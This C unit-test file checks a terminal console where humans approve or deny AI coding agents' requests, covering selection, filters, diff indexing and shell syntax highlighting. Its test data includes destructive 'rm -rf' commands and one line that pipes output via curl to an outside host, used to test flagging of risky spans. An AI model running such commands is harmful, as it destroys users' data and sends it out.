/* The console's state without a screen: frames from the hub in, what the
 * user would see out — the selection staying on the same request while
 * others come and go, "decided elsewhere", filters, the frames a key
 * sends; and the diff index and shell colouring the detail pane uses. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>

#include "tui/diffview.h"
#include "tui/model.h"
#include "tui/syntax.h"
#include "tui/theme.h"

static void
apply(struct tui_model *m, const char *json, struct tui_event *ev)
{
	cJSON *f = cJSON_Parse(json);
	assert_non_null(f);
	tui_model_apply(m, f, ev);
	tui_model_refilter(m);
	cJSON_Delete(f);
}

static void
add_request(struct tui_model *m, const char *id, const char *session, const char *command,
            int snapshot, long created)
{
	char buf[1024];
	struct tui_event ev;
	snprintf(buf, sizeof buf,
	         "{\"v\":1,\"type\":\"event\",\"event\":\"request\",\"snapshot\":%s,"
	         "\"request\":{\"v\":1,\"type\":\"request\",\"id\":\"%s\",\"session\":\"%s\","
	         "\"agent\":\"claude-code\",\"action\":{\"kind\":\"exec\",\"command\":\"%s\"}},"
	         "\"risk\":{\"score\":10,\"level\":\"low\",\"categories\":[],\"reasons\":[]},"
	         "\"rule\":null,\"needs_human\":false,\"created_ms\":%ld,\"deadline_ms\":0}",
	         snapshot ? "true" : "false", id, session, command, created);
	apply(m, buf, &ev);
	assert_int_equal(ev.change, snapshot ? TUI_CHANGE_SNAPSHOT : TUI_CHANGE_ADDED);
	assert_string_equal(ev.id, id);
}

static const char *
selected_id(const struct tui_model *m)
{
	const struct tui_item *it = tui_model_selected(m);
	return it ? it->req->id : "";
}

static void
test_selection_stays_on_its_request(void **state)
{
	(void)state;
	struct tui_model m;
	struct tui_event ev;

	tui_model_init(&m);
	add_request(&m, "a", "s1", "make", 1, 100);
	add_request(&m, "b", "s1", "make test", 1, 200);
	add_request(&m, "c", "s2", "rm -rf build", 1, 300);
	apply(&m, "{\"v\":1,\"type\":\"snapshot_end\",\"pending\":3}", &ev);
	assert_int_equal(ev.change, TUI_CHANGE_SNAPSHOT_END);
	assert_string_equal(selected_id(&m), "a");
	tui_model_move(&m, 1);
	assert_string_equal(selected_id(&m), "b");

	/* An older request (a restarted hub's reload) lands before it: the
	 * selection follows b, not the row number. */
	add_request(&m, "z", "s3", "ls", 0, 50);
	assert_string_equal(selected_id(&m), "b");
	assert_int_equal(m.sel, 2);

	/* b is decided elsewhere: it goes, with a notice naming who, and the
	 * request now in its place is selected. */
	apply(&m,
	      "{\"v\":1,\"type\":\"event\",\"event\":\"decided\",\"id\":\"b\",\"decision\":"
	      "{\"v\":1,\"type\":\"decision\",\"id\":\"b\",\"decision\":\"deny\",\"by\":"
	      "\"guardian\"}}",
	      &ev);
	assert_int_equal(ev.change, TUI_CHANGE_DECIDED);
	assert_false(ev.ours);
	assert_string_equal(ev.notice, "b decided elsewhere: deny by guardian");
	assert_null(tui_model_find(&m, "b"));
	assert_string_equal(selected_id(&m), "c");

	/* The last one leaves: the selection moves up. */
	apply(&m, "{\"v\":1,\"type\":\"event\",\"event\":\"abandoned\",\"id\":\"c\"}", &ev);
	assert_int_equal(ev.change, TUI_CHANGE_ABANDONED);
	assert_string_equal(selected_id(&m), "a");
	tui_model_free(&m);
}

static void
test_our_decision_and_its_frame(void **state)
{
	(void)state;
	struct tui_model m;
	struct tui_event ev;

	tui_model_init(&m);
	add_request(&m, "r1", "s1", "git push", 0, 1);
	struct tui_item *it = tui_model_find(&m, "r1");
	cJSON *f = tui_model_decide_frame(it, AG_DECISION_APPROVE, NULL, 1);
	char *text = cJSON_PrintUnformatted(f);
	assert_string_equal(text,
	                    "{\"v\":1,\"type\":\"decide\",\"id\":\"r1\",\"decision\":\"approve\","
	                    "\"by\":\"human\",\"confirm\":true}");
	cJSON_free(text);
	cJSON_Delete(f);
	assert_true(it->deciding);
	f = tui_model_decide_frame(it, AG_DECISION_DENY, "use --force-with-lease", 0);
	text = cJSON_PrintUnformatted(f);
	assert_non_null(strstr(text, "\"reason\":\"use --force-with-lease\""));
	assert_null(strstr(text, "confirm"));
	cJSON_free(text);
	cJSON_Delete(f);

	apply(
	    &m,
	    "{\"v\":1,\"type\":\"event\",\"event\":\"decided\",\"id\":\"r1\",\"decision\":"
	    "{\"v\":1,\"type\":\"decision\",\"id\":\"r1\",\"decision\":\"deny\",\"by\":\"human\"}}",
	    &ev);
	assert_true(ev.ours);
	assert_string_equal(ev.notice, "r1: deny");

	/* A refusal clears the waiting mark so the user can try again. */
	add_request(&m, "r2", "s1", "x", 0, 2);
	it = tui_model_find(&m, "r2");
	cJSON_Delete(tui_model_decide_frame(it, AG_DECISION_APPROVE, NULL, 0));
	apply(&m,
	      "{\"v\":1,\"type\":\"error\",\"ref\":\"r2\",\"error\":\"approving r2 needs "
	      "confirmation\"}",
	      &ev);
	assert_int_equal(ev.change, TUI_CHANGE_REFUSED);
	assert_false(tui_model_find(&m, "r2")->deciding);
	assert_string_equal(ev.notice, "hub: approving r2 needs confirmation");
	tui_model_free(&m);
}

static void
test_filters(void **state)
{
	(void)state;
	struct tui_model m;

	tui_model_init(&m);
	add_request(&m, "a", "s1", "make", 0, 1);
	add_request(&m, "b", "s2", "cargo test", 0, 2);
	add_request(&m, "c", "s1", "CARGO build", 0, 3);
	tui_model_set_search(&m, "cargo");
	assert_int_equal(m.nview, 2);
	tui_model_set_session(&m, "s1");
	assert_int_equal(m.nview, 1);
	assert_string_equal(selected_id(&m), "c");
	tui_model_set_search(&m, NULL);
	tui_model_set_session(&m, "");
	assert_int_equal(m.nview, 3);
	assert_string_equal(selected_id(&m), "c"); /* kept through the filters */
	tui_model_set_search(&m, "nothing matches");
	assert_int_equal(m.nview, 0);
	assert_null(tui_model_selected(&m));
	tui_model_free(&m);
}

static void
test_bad_frames_are_ignored(void **state)
{
	(void)state;
	struct tui_model m;
	struct tui_event ev;

	tui_model_init(&m);
	apply(&m, "{\"v\":1,\"type\":\"event\",\"event\":\"request\",\"request\":{\"v\":1}}", &ev);
	assert_int_equal(ev.change, TUI_CHANGE_IGNORED);
	assert_int_equal(m.n, 0);
	apply(&m, "{\"v\":1,\"type\":\"event\",\"event\":\"decided\",\"id\":\"../x\"}", &ev);
	assert_int_equal(ev.change, TUI_CHANGE_IGNORED);
	apply(&m, "{\"v\":1,\"type\":\"mystery\"}", &ev);
	assert_int_equal(ev.change, TUI_CHANGE_IGNORED);
	tui_model_free(&m);
}

/* Requests not on display are packed (10,000 of them must fit in a few
 * MB); showing one brings every field back, and the one shown before is
 * packed again. */
static void
test_packed_until_shown(void **state)
{
	(void)state;
	struct tui_model m;
	struct tui_event ev;
	tui_model_init(&m);
	add_request(&m, "p1", "s-1", "make -j8", 1, 1);
	apply(&m,
	      "{\"v\":1,\"type\":\"event\",\"event\":\"request\",\"snapshot\":true,"
	      "\"request\":{\"v\":1,\"type\":\"request\",\"id\":\"p2\",\"session\":\"s-2\","
	      "\"agent\":\"codex\",\"cwd\":\"/repo\",\"justification\":\"clean \\u00e9\","
	      "\"timeout_ms\":5000,\"hook\":{\"tool_use_id\":\"t-9\"},"
	      "\"action\":{\"kind\":\"exec\",\"command\":\"rm -rf \\\"build\\\"\","
	      "\"argv\":[\"rm\",\"-rf\",\"build\"]}},"
	      "\"risk\":{\"score\":10,\"level\":\"low\",\"categories\":[],\"reasons\":[]},"
	      "\"created_ms\":2,\"deadline_ms\":0}",
	      &ev);
	assert_int_equal(ev.change, TUI_CHANGE_SNAPSHOT);
	struct tui_item *p1 = tui_model_find(&m, "p1"), *p2 = tui_model_find(&m, "p2");
	/* p1 is selected (the first): whole; p2 packed, its list fields kept. */
	assert_null(p1->packed);
	assert_non_null(p2->packed);
	assert_null(p2->req->action);
	assert_string_equal(p2->req->session, "s-2");
	assert_string_equal(p2->req->agent, "codex");
	assert_int_equal(p2->req->kind, AG_KIND_EXEC);
	assert_true(tui_item_matches(p2, "CLEAN"));

	tui_model_move(&m, 1);
	tui_model_show(&m, tui_model_selected(&m));
	assert_null(p2->packed);
	assert_non_null(p1->packed);
	assert_string_equal(p2->req->u.exec.command, "rm -rf \"build\"");
	assert_int_equal((int)p2->req->u.exec.argc, 3);
	assert_string_equal(p2->req->u.exec.argv[2], "build");
	assert_string_equal(p2->req->cwd, "/repo");
	assert_string_equal(p2->req->justification, "clean \xc3\xa9");
	assert_int_equal((int)p2->req->timeout_ms, 5000);
	assert_string_equal(
	    cJSON_GetObjectItemCaseSensitive(p2->req->hook, "tool_use_id")->valuestring, "t-9");
	/* Deciding a packed one still names it. */
	cJSON *f = tui_model_decide_frame(p1, AG_DECISION_DENY, NULL, 0);
	assert_string_equal(cJSON_GetObjectItemCaseSensitive(f, "id")->valuestring, "p1");
	cJSON_Delete(f);
	tui_model_free(&m);
}

/* A request event the console is about to delete hands over its long
 * diff instead of a copy: the request shows every byte of it (escapes
 * decoded), with its other fields, after the frame is gone; a short diff
 * and a broken request behave as with tui_model_apply. */
static void
test_take_long_diff(void **state)
{
	(void)state;
	size_t n = 4000, cap = n * 64 + 4096, len = 0, elen = 0;
	char *want = malloc(cap), *esc = malloc(cap * 2);
	for (size_t i = 0; i < n; i++)
		len += (size_t)snprintf(want + len, cap - len, "+\tline %05zu \"q\" \xc3\xa9\n", i);
	for (size_t i = 0; i < len; i++) {
		if (want[i] == '\n' || want[i] == '\t' || want[i] == '"') {
			esc[elen++] = '\\';
			esc[elen++] = want[i] == '\n' ? 'n' : want[i] == '\t' ? 't' : '"';
		} else {
			esc[elen++] = want[i];
		}
	}
	esc[elen] = '\0';
	assert_true(len > 64 * 1024);
	char *frame = malloc(elen + 1024);
	snprintf(
	    frame, elen + 1024,
	    "{\"v\":1,\"type\":\"event\",\"event\":\"request\",\"snapshot\":true,"
	    "\"request\":{\"v\":1,\"type\":\"request\",\"id\":\"big\",\"session\":\"s-9\","
	    "\"agent\":\"codex\",\"cwd\":\"/w\",\"action\":{\"kind\":\"patch\",\"diff\":\"%s\","
	    "\"files\":[\"a.c\"]}},\"risk\":{\"score\":30,\"level\":\"medium\",\"categories\":[],"
	    "\"reasons\":[]},\"rule\":null,\"needs_human\":false,\"created_ms\":5,"
	    "\"deadline_ms\":0}",
	    esc);
	struct tui_model m;
	struct tui_event ev;
	tui_model_init(&m);
	cJSON *f = cJSON_Parse(frame);
	assert_non_null(f);
	tui_model_take(&m, f, &ev);
	cJSON_Delete(f);
	tui_model_refilter(&m);
	assert_int_equal(ev.change, TUI_CHANGE_SNAPSHOT);
	struct tui_item *it = tui_model_find(&m, "big");
	assert_non_null(it);
	struct ag_request *r = tui_item_full(it);
	assert_int_equal(r->kind, AG_KIND_PATCH);
	assert_int_equal(strlen(r->u.patch.diff), len);
	assert_memory_equal(r->u.patch.diff, want, len);
	/* The action tree holds the same text (what a later print shows). */
	assert_ptr_equal(cJSON_GetObjectItemCaseSensitive(r->action, "diff")->valuestring,
	                 r->u.patch.diff);
	assert_string_equal(r->u.patch.files[0], "a.c");
	assert_string_equal(r->session, "s-9");
	assert_int_equal(it->risk.score, 30);

	/* A broken one is still refused whole (the stand-in does not hide
	 * what else is wrong), and its diff is not leaked. */
	char *bad = strstr(frame, "\"files\":[\"a.c\"]");
	memcpy(bad, "\"files\":[ 1   ]", 15);
	memcpy(strstr(frame, "\"big\""), "\"bag\"", 5);
	f = cJSON_Parse(frame);
	assert_non_null(f);
	tui_model_take(&m, f, &ev);
	cJSON_Delete(f);
	assert_int_equal(ev.change, TUI_CHANGE_IGNORED);
	assert_non_null(strstr(ev.notice, "action.files"));
	assert_null(tui_model_find(&m, "bag"));
	tui_model_free(&m);
	free(frame);
	free(esc);
	free(want);
}

/* A patch request event for id with diff (already JSON-escaped); with
 * whole_bytes > 0, a preview of a diff that long. */
static void
apply_patch(struct tui_model *m, const char *id, const char *diff, long whole_bytes,
            struct tui_event *ev)
{
	char extra[64] = "";
	if (whole_bytes > 0)
		snprintf(extra, sizeof extra, ",\"preview\":true,\"request_bytes\":%ld",
		         whole_bytes);
	char buf[2048];
	snprintf(buf, sizeof buf,
	         "{\"v\":1,\"type\":\"event\",\"event\":\"request\",\"snapshot\":false,"
	         "\"request\":{\"v\":1,\"type\":\"request\",\"id\":\"%s\",\"session\":\"s\","
	         "\"agent\":\"codex\",\"action\":{\"kind\":\"patch\",\"diff\":\"%s\"}},"
	         "\"risk\":{\"score\":60,\"level\":\"high\",\"categories\":[],\"reasons\":[]},"
	         "\"rule\":null,\"needs_human\":false,\"created_ms\":7,\"deadline_ms\":0%s}",
	         id, diff, extra);
	apply(m, buf, ev);
}

/* A preview (the first lines of a long diff) shows at once and is marked
 * as such; the request event behind it replaces it without a second bell
 * and keeps the selection; a preview arriving after the whole request
 * (a snapshot after a reconnect) leaves the whole one alone. */
static void
test_preview_then_request(void **state)
{
	(void)state;
	struct tui_model m;
	struct tui_event ev;
	tui_model_init(&m);
	add_request(&m, "r-1", "s", "make", 0, 1);
	apply_patch(&m, "big", "+a\\n", 123456, &ev);
	assert_int_equal(ev.change, TUI_CHANGE_ADDED);
	assert_true(ev.preview);
	struct tui_item *it = tui_model_find(&m, "big");
	assert_non_null(it);
	assert_true(it->preview);
	assert_int_equal(it->preview_bytes, 123456);
	assert_int_equal(it->risk.score, 60);
	tui_model_select_index(&m, 1);
	assert_string_equal(selected_id(&m), "big");

	apply_patch(&m, "big", "+a\\n+b\\n", 0, &ev);
	assert_int_equal(ev.change, TUI_CHANGE_COMPLETED); /* no bell again */
	assert_false(ev.preview);
	it = tui_model_find(&m, "big");
	assert_false(it->preview);
	assert_string_equal(tui_item_full(it)->u.patch.diff, "+a\n+b\n");
	assert_string_equal(selected_id(&m), "big");

	apply_patch(&m, "big", "+a\\n", 123456, &ev);
	assert_int_equal(ev.change, TUI_CHANGE_IGNORED);
	it = tui_model_find(&m, "big");
	assert_false(it->preview);
	assert_string_equal(tui_item_full(it)->u.patch.diff, "+a\n+b\n");
	tui_model_free(&m);
}

/* Line numbers are stored every 64 lines and walked to from there: a
 * generated diff whose every body line names the numbers it must get,
 * with hunks that start and end across those steps, a bare "@@" whose
 * lines have no numbers, and no newline at the end. */
static void
test_diff_index_numbers(void **state)
{
	(void)state;
	size_t cap = 1 << 20, len = 0;
	char *diff = malloc(cap);
	int o = 0, nw = 0;
	len += (size_t)snprintf(diff + len, cap - len, "diff --git a/y b/y\n--- a/y\n+++ b/y\n");
	for (int h = 0; h < 30; h++) {
		int ctx = 3 + h * 7 % 90, del = h % 5, add = h % 3;
		o = 100 * h + 1;
		nw = 100 * h + 5;
		len += (size_t)snprintf(diff + len, cap - len, "@@ -%d,%d +%d,%d @@\n", o,
		                        ctx + del, nw, ctx + add);
		for (int k = 0; k < ctx + del + add; k++) {
			if (k < del)
				len += (size_t)snprintf(diff + len, cap - len, "-o%d\n", o++);
			else if (k < del + add)
				len += (size_t)snprintf(diff + len, cap - len, "+n%d\n", nw++);
			else
				len += (size_t)snprintf(diff + len, cap - len, " o%d n%d\n", o++,
				                        nw++);
		}
		if (h == 17)
			len += (size_t)snprintf(diff + len, cap - len, "@@\n+loose\n-loose\n");
	}
	len += (size_t)snprintf(diff + len, cap - len, " trailing");
	struct tui_diff_index *idx = tui_diff_index_build(diff, len, TUI_BODY_DIFF, NULL);
	size_t checked = 0, loose = 0;
	for (size_t i = 0; i < idx->n; i++) {
		struct tui_dline_info li;
		char want[64];
		tui_diff_line(idx, i, &li);
		const char *s = diff + li.off;
		if (li.len == 6 && memcmp(s + 1, "loose", 5) == 0) {
			assert_int_equal(li.kind, s[0] == '+' ? TUI_DL_ADD : TUI_DL_DEL);
			assert_int_equal(li.old_no + li.new_no, 0);
			loose++;
			continue;
		}
		if (li.kind == TUI_DL_DEL)
			snprintf(want, sizeof want, "-o%u", li.old_no);
		else if (li.kind == TUI_DL_ADD)
			snprintf(want, sizeof want, "+n%u", li.new_no);
		else if (li.kind == TUI_DL_CONTEXT)
			snprintf(want, sizeof want, " o%u n%u", li.old_no, li.new_no);
		else
			continue;
		assert_int_equal(li.len, strlen(want));
		assert_memory_equal(s, want, li.len);
		checked++;
	}
	assert_true(checked > 1000);
	assert_int_equal(loose, 2);
	struct tui_dline_info last;
	tui_diff_line(idx, idx->n - 1, &last);
	assert_int_equal(last.len, 9); /* " trailing", no newline after it */
	assert_memory_equal(diff + last.off, " trailing", 9);
	tui_diff_index_free(&idx);
	free(diff);
}

static uint32_t
lazy_rand(uint32_t *s)
{
	*s ^= *s << 13;
	*s ^= *s >> 17;
	*s ^= *s << 5;
	return *s;
}

static void
assert_same_line(struct tui_diff_index *a, struct tui_diff_index *b, size_t i)
{
	struct tui_dline_info x, y;
	tui_diff_line(a, i, &x);
	tui_diff_line(b, i, &y);
	assert_int_equal(x.off, y.off);
	assert_int_equal(x.len, y.len);
	assert_int_equal(x.kind, y.kind);
	assert_int_equal(x.flagged, y.flagged);
	assert_int_equal(x.old_no, y.old_no);
	assert_int_equal(x.new_no, y.new_no);
}

/* The first paint indexes only the lines it shows and the loop the rest:
 * on random diffs (hunks whose counts are right, short or long, loose
 * apply_patch hunks, headers, "--- x" inside hunks, blank lines, texts
 * that span index blocks or end without a newline), an index built a
 * piece at a time, with lines asked for out of order in between, answers
 * as the one-shot index does for every line, before and after it is
 * complete, and its totals match once it is. */
static void
test_diff_index_lazy(void **state)
{
	(void)state;
	static const char *const pool[] = {"diff --git a/f b/f",
	                                   "--- a/f",
	                                   "+++ b/f",
	                                   "@@ -3,4 +5,2 @@ fn()",
	                                   "@@ -1 +1 @@",
	                                   "@@ -900,70 +12000,90 @@",
	                                   "@@",
	                                   "+added",
	                                   "-removed",
	                                   " context",
	                                   "",
	                                   "--- inside",
	                                   "+++ inside",
	                                   "\\ No newline at end of file",
	                                   "*** Update File: x",
	                                   "*** Add File: y",
	                                   "*** Delete File: z",
	                                   "index 1..2",
	                                   "garbage \x01\t line"};
	uint32_t seed = 0x9e3779b9u;
	for (int round = 0; round < 60; round++) {
		size_t cap = 1 << 18, len = 0;
		char *text = malloc(cap);
		size_t lines = lazy_rand(&seed) % (round < 10 ? 50 : 6000);
		for (size_t k = 0; k < lines && len + 64 < cap; k++) {
			const char *l = pool[lazy_rand(&seed) % (sizeof pool / sizeof pool[0])];
			len += (size_t)snprintf(text + len, cap - len, "%s\n", l);
		}
		if (len > 0 && lazy_rand(&seed) % 2)
			len--; /* no newline at the end */
		struct ag_risk risk;
		ag_risk_init(&risk);
		for (int r = 0; r < 5; r++)
			ag_risk_add(&risk, 50, 0, -1, -1, (int)(lazy_rand(&seed) % (lines + 3)),
			            "reason");
		enum tui_body_kind kind = round % 7 == 6 ? TUI_BODY_JSON : TUI_BODY_DIFF;
		struct tui_diff_index *whole = tui_diff_index_build(text, len, kind, &risk);
		struct tui_diff_index *lazy = tui_diff_index_start(text, len, kind, &risk);
		assert_true(tui_diff_index_done(whole));
		assert_int_equal(lazy->n, whole->n);
		assert_int_equal(lazy->flagged, whole->flagged);
		for (int step = 0; step < 8 && whole->n > 0; step++) {
			if (lazy_rand(&seed) % 2)
				tui_diff_index_build_some(lazy, lazy_rand(&seed) % (whole->n + 70));
			assert_same_line(whole, lazy, lazy_rand(&seed) % whole->n);
			assert_int_equal(lazy->flagged, whole->flagged);
			for (long i = -1; (i = tui_diff_next_flagged(whole, i, 1)) >= 0;)
				assert_int_equal(tui_diff_next_flagged(lazy, i - 1, 1), i);
		}
		assert_int_equal(tui_diff_index_complete(lazy), !tui_diff_index_done(lazy));
		assert_true(tui_diff_index_done(lazy));
		assert_int_equal(tui_diff_index_complete(lazy), 0);
		for (size_t i = 0; i < whole->n; i++)
			assert_same_line(whole, lazy, i);
		assert_int_equal(lazy->files, whole->files);
		assert_int_equal(lazy->added, whole->added);
		assert_int_equal(lazy->removed, whole->removed);
		assert_int_equal(lazy->max_no, whole->max_no);
		assert_int_equal(lazy->flagged, whole->flagged);
		if (kind == TUI_BODY_DIFF && lines > 1000)
			assert_true(whole->added > 0 && whole->max_no > 0);
		tui_diff_index_free(&whole);
		tui_diff_index_free(&lazy);
		ag_risk_clear(&risk);
		free(text);
	}
}

static void
test_diff_index(void **state)
{
	(void)state;
	const char *diff = "diff --git a/x b/x\n"    /* 1 */
	                   "index 1..2 100644\n"     /* 2 */
	                   "--- a/x\n"               /* 3 */
	                   "+++ b/x\n"               /* 4 */
	                   "@@ -10,3 +10,3 @@ f()\n" /* 5 */
	                   " keep\n"                 /* 6: 10/10 */
	                   "--- not a header\n"      /* 7: deletion, old 11 */
	                   "+++ not either\n"        /* 8: addition, new 11 */
	                   " tail\n"                 /* 9: 12/12 */
	                   "\\ No newline at end of file\n";
	struct ag_risk risk;
	ag_risk_init(&risk);
	ag_risk_add(&risk, 80, 0, -1, -1, 8, "adds a line");
	struct tui_diff_index *idx = tui_diff_index_build(diff, strlen(diff), TUI_BODY_DIFF, &risk);
	assert_int_equal(idx->n, 10);
	static const int kinds[] = {TUI_DL_HEADER,  TUI_DL_HEADER,  TUI_DL_FILE, TUI_DL_FILE,
	                            TUI_DL_HUNK,    TUI_DL_CONTEXT, TUI_DL_DEL,  TUI_DL_ADD,
	                            TUI_DL_CONTEXT, TUI_DL_NOEOL};
	struct tui_dline_info li[10];
	for (int i = 0; i < 10; i++) {
		tui_diff_line(idx, (size_t)i, &li[i]);
		assert_int_equal(li[i].kind, kinds[i]);
	}
	assert_int_equal(li[5].old_no, 10);
	assert_int_equal(li[6].old_no, 11);
	assert_int_equal(li[7].new_no, 11);
	assert_int_equal(li[8].new_no, 12);
	assert_int_equal(li[7].old_no, 0);
	assert_int_equal(li[6].new_no, 0);
	assert_true(li[7].flagged);
	assert_false(li[6].flagged);
	assert_memory_equal(diff + li[6].off, "--- not a header", li[6].len);
	assert_int_equal(li[6].len, 16);
	assert_int_equal(li[9].len, 27);
	assert_int_equal(idx->flagged, 1);
	assert_int_equal(idx->files, 1);
	assert_int_equal(idx->added, 1);
	assert_int_equal(idx->removed, 1);
	assert_int_equal(tui_diff_next_flagged(idx, -1, 1), 7);
	assert_int_equal(tui_diff_next_flagged(idx, 7, 1), -1);
	assert_int_equal(tui_diff_next_flagged(idx, 9, -1), 7);
	tui_diff_index_free(&idx);
	assert_null(idx);
	ag_risk_clear(&risk);
}

static void
test_shell_colouring(void **state)
{
	(void)state;
	const char *cmd = "FOO=1 sudo rm -rf \"$HOME/x\" | curl -d @- https://e.x # go";
	size_t len = strlen(cmd);
	unsigned char cls[128];
	struct ag_risk risk;

	tui_syntax_shell(cmd, len, cls);
	assert_int_equal(cls[0], TUI_EL_SH_VARIABLE); /* FOO=1 */
	assert_int_equal(cls[strstr(cmd, "sudo") - cmd], TUI_EL_SH_COMMAND);
	assert_int_equal(cls[strstr(cmd, "rm") - cmd], TUI_EL_SH_COMMAND); /* after sudo */
	assert_int_equal(cls[strstr(cmd, "-rf") - cmd], TUI_EL_SH_OPTION);
	assert_int_equal(cls[strstr(cmd, "\"$") - cmd], TUI_EL_SH_STRING);
	assert_int_equal(cls[strstr(cmd, "$HOME") - cmd], TUI_EL_SH_VARIABLE);
	assert_int_equal(cls[strstr(cmd, "|") - cmd], TUI_EL_SH_OPERATOR);
	assert_int_equal(cls[strstr(cmd, "curl") - cmd], TUI_EL_SH_COMMAND);
	assert_int_equal(cls[strstr(cmd, "https") - cmd], TUI_EL_DEFAULT);
	assert_int_equal(cls[strstr(cmd, "# go") - cmd], TUI_EL_SH_COMMENT);

	ag_risk_init(&risk);
	ag_risk_add(&risk, 90, 0, 11, 17, 0, "rm -rf");
	ag_risk_add(&risk, 90, 0, 100, 200, 0, "out of range: ignored");
	tui_syntax_flag_spans(&risk, len, cls);
	assert_int_equal(cls[11], TUI_EL_FLAGGED);
	assert_int_equal(cls[16], TUI_EL_FLAGGED);
	assert_int_equal(cls[17], TUI_EL_DEFAULT);
	ag_risk_clear(&risk);

	const char *json = "  \"repo\": \"web\", \"n\": 3, \"ok\": true";
	tui_syntax_json(json, strlen(json), cls);
	assert_int_equal(cls[2], TUI_EL_JSON_KEY);
	assert_int_equal(cls[10], TUI_EL_JSON_STRING);
	assert_int_equal(cls[strstr(json, "3") - json], TUI_EL_JSON_NUMBER);
	assert_int_equal(cls[strstr(json, "true") - json], TUI_EL_JSON_LITERAL);
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
	    cmocka_unit_test(test_selection_stays_on_its_request),
	    cmocka_unit_test(test_our_decision_and_its_frame),
	    cmocka_unit_test(test_filters),
	    cmocka_unit_test(test_bad_frames_are_ignored),
	    cmocka_unit_test(test_packed_until_shown),
	    cmocka_unit_test(test_diff_index),
	    cmocka_unit_test(test_diff_index_numbers),
	    cmocka_unit_test(test_diff_index_lazy),
	    cmocka_unit_test(test_take_long_diff),
	    cmocka_unit_test(test_preview_then_request),
	    cmocka_unit_test(test_shell_colouring),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
